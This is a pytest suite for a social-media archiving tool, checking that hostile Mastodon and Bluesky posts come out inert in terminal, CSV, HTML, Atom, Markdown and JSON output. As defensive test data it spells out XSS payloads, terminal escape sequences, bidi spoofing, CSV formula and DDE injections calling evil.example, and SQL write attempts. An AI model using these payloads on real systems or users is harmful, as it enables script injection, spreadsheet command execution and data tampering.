"""Hostile post content through every output: nothing in a post may run, inject or rewrite a terminal.

The posts are the captured Mastodon 4.x status and Bluesky post view with hostile fields, saved as
API JSON and read through `file:` sources (the only hand-written inputs are the hostile values).
Each output is checked by parsing it the way its consumer would: an HTML parser, a CSV reader, an
XML parser, a JSON decoder, the terminal's bytes.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import sqlite3
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from servers.fault_server import TEMPLATE, run_forked

FIXTURES = Path(__file__).resolve().parent / "fixtures"
CARD_STATUS = json.loads((FIXTURES / "mastodon" / "mastodon-4x-cassettes.json").read_text(encoding="utf-8"))[
    "card"
]
BLUESKY = json.loads((FIXTURES / "bluesky" / "searchPosts.json").read_text(encoding="utf-8"))["posts"][0]

ANSI = "\x1b[31mRED\x1b[0m \x1b]0;pwned-title\x07 \x1b[2J\x1b]8;;http://evil.example/\x1b\\hyperlink\x1b]8;;\x1b\\"
MARKUP = "[bold red]ALERT[/bold red] [link=http://evil.example/]rich link[/link]"
BIDI = "invoice\u202egnp.exe \u2066isolated\u2069 \u200fmark"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
HTML_ATTACK = (
    "<p>hello<script>alert('script')</script>"
    "<img src=x onerror=\"alert('img')\">"
    "<a href=\"javascript:alert('href')\" onclick=\"alert('click')\">click me</a>"
    "<a href=\" JaVaScRiPt:alert('spaced')\">spaced</a>"
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'
    "<svg onload=\"alert('svg')\"><circle/></svg><iframe src=\"javascript:alert('frame')\"></iframe>"
    '<style>body{display:none}</style><form action="http://evil.example/"><input name=p></form>'
    '<p onmouseover="alert(\'hover\')" style="background:url(javascript:alert(1))">hover</p></p>'
)
MARKDOWN_ATTACK = "[click](javascript:alert('md')) ![track](http://evil.example/pixel.png) <script>alert(1)</script>\n# heading\n> quote"  # noqa: E501
MEGABYTE = 1_000_000
PAYLOADS = {
    "html": {"content": HTML_ATTACK},
    "ansi": {"content": f"<p>{ANSI}</p>", "display_name": ANSI},
    "rich markup": {"content": f"<p>{MARKUP}</p>", "display_name": MARKUP},
    "bidi": {"content": f"<p>{BIDI}</p>", "display_name": BIDI},
    "nul": {"content": "<p>before\x00after</p>", "display_name": "nul\x00name"},
    "surrogate": {"content": "<p>lone \ud800 high and \udfff low</p>", "display_name": "\udbff"},
    "megabyte": {"content": "<p>" + "A" * MEGABYTE + "</p>"},
    "markdown": {"content": f"<p>{MARKDOWN_ATTACK}</p>"},
    "javascript url": {"url": "javascript:alert('url')", "account_url": "javascript:alert('account')"},
    "spoiler": {"content": "<p>under a warning</p>", "spoiler_text": f"{ANSI} {FORMULAS[0]} <script>x</script>"},
    **{f"formula {n}": {"content": f"<p>{text}</p>", "display_name": text, "card_title": f"{text} {ANSI}"}
       for n, text in enumerate(FORMULAS)},
}  # fmt: skip
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "base",
    "frame",
    "applet",
}
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def hostile_status(number: int, fields: dict) -> dict:
    status = copy.deepcopy(TEMPLATE)
    status_id = str(200000000000000000 + number)
    status["id"] = status_id
    status["uri"] = f"https://evil.example/users/mallory/statuses/{status_id}"
    status["url"] = fields.get("url", f"https://evil.example/@mallory/{status_id}")
    status["created_at"] = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    status["content"] = fields.get("content", "<p>plain</p>")
    status["spoiler_text"] = fields.get("spoiler_text", "")
    status["language"] = "en"
    status["tags"] = [{"name": "edtech", "url": "https://evil.example/tags/edtech"}]
    if "card_title" in fields:  # a shared link whose preview title is hostile
        status["card"] = {
            **CARD_STATUS["card"],
            "url": "https://evil.example/page",
            "title": fields["card_title"],
        }
        status["content"] += '<p><a href="https://evil.example/page">https://evil.example/page</a></p>'
    account = status["account"]
    account["acct"] = f"mallory{number}@evil.example"
    account["username"] = f"mallory{number}"
    account["display_name"] = fields.get("display_name", "Mallory")
    account["url"] = fields.get("account_url", "https://evil.example/@mallory")
    return status


def hostile_bluesky() -> dict:
    post = copy.deepcopy(BLUESKY)
    text = f"{ANSI} {MARKUP} {FORMULAS[0]} <script>alert('bsky')</script> click"
    post["uri"] = "at://did:plc:mallory/app.bsky.feed.post/3hostile"
    post["author"]["displayName"] = f"{BIDI} {ANSI}"
    post["record"]["text"] = text
    start = len(text.encode()) - len("click")
    post["record"]["facets"] = [
        {
            "$type": "app.bsky.richtext.facet",
            "index": {"byteStart": start, "byteEnd": start + 5},
            "features": [{"$type": "app.bsky.richtext.facet#link", "uri": "javascript:alert('facet')"}],
        }
    ]
    post["record"]["createdAt"] = post["indexedAt"] = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    return post


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    """An archive holding every payload, fetched by `plnfilter run` from saved API JSON."""
    where = tmp_path_factory.mktemp("hostile")
    statuses = [hostile_status(n, fields) for n, fields in enumerate(PAYLOADS.values())]
    (where / "mastodon.json").write_text(json.dumps(statuses), encoding="utf-8")  # \ud800 stays an escape
    (where / "bluesky.json").write_text(json.dumps({"posts": [hostile_bluesky()]}), encoding="utf-8")
    filter_path = where / "hostile.yaml"
    filter_path.write_text(
        "name: hostile\nsources:\n  - file: mastodon.json\n  - file: bluesky.json\nkeep: 100\n",
        encoding="utf-8",
    )
    db = where / "archive.db"
    result = run_forked(where, "run", filter_path, "--db", db, env=_env(where))
    assert result.returncode == 0, result.stderr
    assert _terminal_safe(result.stderr)
    return where, db, filter_path


def _env(where: Path) -> dict[str, str]:
    from servers.fault_server import cli_env

    return cli_env(PLNFILTER_HOME=str(where / "home"))


def plnfilter(hostile_archive, *args, **env):
    from plnfilter.cli import cli

    assert args[0] in cli.list_commands(None), (
        f"`plnfilter {args[0]}` is not registered in plnfilter/cli/__init__.py"
    )
    where, db, _ = hostile_archive
    result = run_forked(where, *args, "--db", db, env={**_env(where), **env})
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


def _terminal_safe(text: str) -> bool:
    return not TERMINAL_UNSAFE.search(text)


def test_every_payload_was_archived(hostile_archive, report):
    _, db, _ = hostile_archive
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT count(*) FROM posts").fetchone()[0] == len(PAYLOADS) + 1
    longest = conn.execute("SELECT max(length(text)) FROM posts").fetchone()[0]
    assert longest >= MEGABYTE
    surrogate = conn.execute("SELECT text FROM posts WHERE text LIKE '%lone%'").fetchone()[0]
    assert "\ufffd" in surrogate  # a lone surrogate cannot be UTF-8: replaced, not fatal
    report(f"hostile payloads: {len(PAYLOADS) + 1} posts ({', '.join(PAYLOADS)}, bluesky facet) archived")


@pytest.mark.parametrize("colour", [False, True], ids=["piped", "forced-colour"])
@pytest.mark.parametrize(
    "command",
    [("query", "--all", "--limit", "100"), ("top", "--limit", "100"), ("links",), ("runs",), ("sources",)],
    ids=lambda c: c[0],
)
def test_terminal_table_shows_hostile_text_inert(hostile_archive, command, colour):
    env = {"FORCE_COLOR": "1", "TERM": "xterm-256color"} if colour else {}
    out = plnfilter(hostile_archive, *command, "--format", "table", **env).stdout
    for sequence in ("\x1b]", "\x1b[2J", "\x1b[31mRED", "\x07", "\x00", "\u202e", "\u2066", "\u200f"):
        assert sequence not in out, repr(sequence)
    if not colour:
        assert "\x1b" not in out
    if command[0] == "query":
        assert "[bold red]ALERT[/bold red]" in out  # shown as typed, not interpreted
        assert len(out) < 200_000  # the 1 MB post is cut to a line


def test_explain_text_is_terminal_safe(hostile_archive):
    _, db, _ = hostile_archive
    uris = [row[0] for row in sqlite3.connect(db).execute("SELECT uri FROM posts")]
    for uri in uris:
        out = plnfilter(hostile_archive, "explain", uri, "--since", "7d").stdout
        assert _terminal_safe(out), repr(out[:300])
        assert len(out) < 100_000


@pytest.mark.parametrize(
    "command", [("query", "--all"), ("top", "--limit", "100"), ("links",)], ids=lambda c: c[0]
)
def test_csv_cells_never_start_a_formula(hostile_archive, command):
    out = plnfilter(hostile_archive, *command, "--format", "csv").stdout
    csv.field_size_limit(4 * MEGABYTE)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) >= 2
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only numbers (negative scores) may start like a formula
    if command[0] == "query":
        joined = "\n".join(cells)
        assert all(f"'{formula}" in joined for formula in FORMULAS)  # neutralised, not dropped


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_outputs_parse_and_keep_the_text(hostile_archive, fmt):
    out = plnfilter(hostile_archive, "query", "--all", "--format", fmt).stdout
    rows = json.loads(out) if fmt == "json" else [json.loads(line) for line in out.splitlines()]
    assert len(rows) == len(PAYLOADS) + 1
    texts = "\n".join(row["text"] for row in rows)
    assert "before\x00after" in texts and MARKUP in texts  # data formats keep data exact
    assert "\u2028" not in out and "\u2029" not in out
    out.encode("utf-8")  # no lone surrogate survives


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert_html(markup: str, allow: frozenset[str] = frozenset()) -> int:
    """No script-bearing element, event handler or script URL; returns how many tags were checked."""
    parser = Elements()
    parser.feed(markup)
    for tag, attrs in parser.tags:
        assert tag not in DANGEROUS_TAGS - allow, tag
        assert not (tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh"), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "formaction", "xlink:href", "poster", "srcset"):
                squeezed = re.sub(r"[\s\x00-\x1f]", "", unescape(value)).lower()
                assert not squeezed.startswith(("javascript:", "data:", "vbscript:")), (tag, value)
            if name == "style":
                assert "javascript" not in value.lower() and "url(" not in value.lower()
    assert "alert('script')" not in markup and "alert(1)</script>" not in markup
    return len(parser.tags)


@pytest.mark.parametrize("command", [("export", "--all"), ("top", "--limit", "100")], ids=lambda c: c[0])
@pytest.mark.parametrize("images", [False, True], ids=["alt-text", "images"])
def test_html_output_is_sanitised(hostile_archive, command, images):
    flags = ("--images",) if images else ()
    out = plnfilter(hostile_archive, *command, "--format", "html", *flags).stdout
    assert assert_inert_html(out) > 10
    assert "click me" in out  # the text of a bad link survives, the link does not


@pytest.mark.parametrize("command", [("export", "--all"), ("top", "--limit", "100")], ids=lambda c: c[0])
def test_atom_feed_is_well_formed_and_its_html_sanitised(hostile_archive, command):
    out = plnfilter(hostile_archive, *command, "--format", "atom").stdout
    feed = ET.fromstring(out.encode("utf-8"))  # NUL and ESC would make it unparsable XML
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = feed.findall("a:entry", ns)
    assert len(entries) == len(PAYLOADS) + 1
    for entry in entries:
        for link in entry.findall("a:link", ns):
            assert link.get("href", "").startswith(("http://", "https://")), link.get("href")
        for content in entry.findall("a:content", ns) + entry.findall("a:summary", ns):
            if content.get("type") == "html":
                assert_inert_html(content.text or "")
            elif content.get("type") == "xhtml":
                assert_inert_html(ET.tostring(content, encoding="unicode"))


@pytest.mark.parametrize(
    "command",
    [
        ("export", "--all", "--format", "markdown"),
        ("top", "--limit", "100", "--format", "markdown"),
        ("links",),
    ],
    ids=lambda c: c[0],
)
def test_markdown_output_has_no_live_markup_or_escapes(hostile_archive, command):
    out = plnfilter(hostile_archive, *command).stdout
    assert not re.search(r"(?<!\\)<script", out, re.IGNORECASE)  # `\<script\>` is shown, not run
    assert not re.search(r"(?<!\\)\]\(\s*(javascript|data|vbscript):", out, re.IGNORECASE)
    assert not re.search(r"(?<!\\)!\[[^\]]*\]\(http://evil", out)  # no tracking image
    assert _terminal_safe(out), repr(TERMINAL_UNSAFE.search(out))  # a digest is often read with `cat`


def test_query_sql_cannot_change_the_archive_from_the_command_line(hostile_archive, report):
    where, db, _ = hostile_archive
    before = "\n".join(sqlite3.connect(db).iterdump())
    attempts = [
        "DELETE FROM posts",
        "UPDATE posts SET text = 'owned'",
        "DROP TABLE posts",
        "INSERT INTO sources (name) VALUES ('x')",
        "CREATE TABLE owned (x)",
        "CREATE TEMP TABLE owned (x)",
        f"ATTACH DATABASE '{where / 'owned.db'}' AS owned",
        f"VACUUM INTO '{where / 'copy.db'}'",
        "PRAGMA writable_schema = 1",
        "PRAGMA journal_mode = DELETE",
        "SELECT load_extension('/tmp/evil')",
        "SELECT 1; DELETE FROM posts",
        "WITH x AS (SELECT 1) DELETE FROM posts",
        "REPLACE INTO posts (uri, network) VALUES ('x', 'mastodon')",
        "SELECT * FROM posts; DROP TABLE runs",
    ]
    for sql in attempts:
        result = run_forked(where, "query", "--sql", sql, "--db", db, "--format", "jsonl", env=_env(where))
        assert result.returncode in (1, 2), (sql, result.returncode, result.stdout[:200])
        assert "Traceback" not in result.stderr and result.stderr.startswith("Error: "), result.stderr
    assert "\n".join(sqlite3.connect(db).iterdump()) == before
    assert not (where / "owned.db").exists() and not (where / "copy.db").exists()
    report(f"query --sql: {len(attempts)} writing statements refused, archive byte-for-byte the same dump")
